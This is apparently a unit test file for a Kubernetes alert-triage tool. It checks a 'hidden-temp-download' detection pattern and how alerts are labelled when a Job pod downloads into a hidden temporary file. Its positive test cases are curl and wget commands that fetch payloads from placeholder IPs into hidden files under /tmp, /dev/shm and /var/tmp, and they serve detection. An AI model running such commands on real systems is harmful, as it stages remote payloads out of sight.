/**
 * hidden-temp-download: a payload fetched into a hidden file in a temporary directory (the drop before it runs). A
 * visible file, a hidden file outside the temporary directories, and a download to stdout are not it. In triage, such a
 * download under a Job's own command (the Job pod gone, known from the audit log) stays genuine; a visible report does not.
 */
import { describe, expect, it } from 'vitest';
import { summarizePodSpec } from '../../src/cluster/audit.js';
import { buildIndex } from '../../src/cluster/index.js';
import type { AuditActivity } from '../../src/cluster/model.js';
import { ATTACK_INDICATORS } from '../../src/knowledge/indicators.js';
import { triageAlert } from '../../src/triage/pipeline.js';
import { alert, node, snapshot } from '../support/cluster.js';

const indicator = ATTACK_INDICATORS.find((i) => i.id === 'hidden-temp-download')!;

describe('hidden-temp-download indicator', () => {
  it.each([
    'curl -s -o /tmp/.kv-up https://203.0.113.50/kv-up',
    'curl -so /dev/shm/.x http://198.51.100.7/x',
    'wget -qO /var/tmp/.cache/.k http://198.51.100.7/k',
    'sh -c "curl -fsSL --output=/tmp/.s https://example.net/s"',
    'wget --output-document /tmp/.p http://198.51.100.7/p',
  ])('matches %s', (cmd) => expect(indicator.pattern.test(cmd)).toBe(true));

  it.each([
    'curl -s -o /tmp/report.bin https://reports.example.net/daily',
    'curl -fsSL -o /home/app/.cache/helm.tgz https://get.helm.sh/helm-v3.16.3-linux-amd64.tar.gz',
    'wget -qO- http://198.51.100.7/x',
    'curl -sO https://example.net/.well-known/x',
  ])('trap: does not match %s', (cmd) => expect(indicator.pattern.test(cmd)).toBe(false));
});

const N = 'aks-workers-38104822-vmss000002';
const T = (hms: string) => `2026-12-03T${hms}.000Z`;
const RUN = ['/bin/sh', '/opt/job/run.sh'];
const body = {
  kind: 'Pod',
  apiVersion: 'v1',
  metadata: { name: 'payroll-sync-29938290-gsgmp', namespace: 'payroll', ownerReferences: [{ apiVersion: 'batch/v1', kind: 'Job', name: 'payroll-sync-29938290', uid: 'u', controller: true }] },
  spec: { nodeName: N, restartPolicy: 'OnFailure', containers: [{ name: 'job', image: 'payrollacr.azurecr.io/payroll/sync:1.4.2', command: RUN }] },
};
const created: AuditActivity = { time: T('11:30:01'), user: 'system:serviceaccount:kube-system:job-controller', groups: [], verb: 'create', resource: 'pods', namespace: 'payroll', name: 'payroll-sync-29938290-gsgmp', sourceIps: ['172.31.1.5'], code: 201, podSpec: summarizePodSpec(body) };

function verdict(commandLine: string) {
  const s = snapshot([node(N, '10.224.0.8')]);
  s.auditActivities = [created];
  const a = alert({ host: N, time: T('11:30:13'), title: 'Detected suspicious file download', container: { namespace: 'payroll', pod: created.name, name: 'job' }, process: { name: 'curl', path: '/usr/bin/curl', commandLine }, ancestors: [{ name: 'sh', commandLine: RUN.join(' ') }] });
  return triageAlert(a, { index: buildIndex([s]) }).verdict;
}

describe('a hidden download under a Job command', () => {
  it("is not the Job's baseline", () => {
    expect(verdict('curl -s -o /tmp/.kv-up https://203.0.113.50/kv-up')).toMatchObject({ label: 'genuine', cause: 'attack' });
  });
  it('trap: a visible report downloaded by the same command stays its baseline', () => {
    expect(verdict('curl -s -o /tmp/report.bin https://203.0.113.50/report.bin')).toMatchObject({ label: 'likely-false-positive', cause: 'workload-baseline' });
  });
});
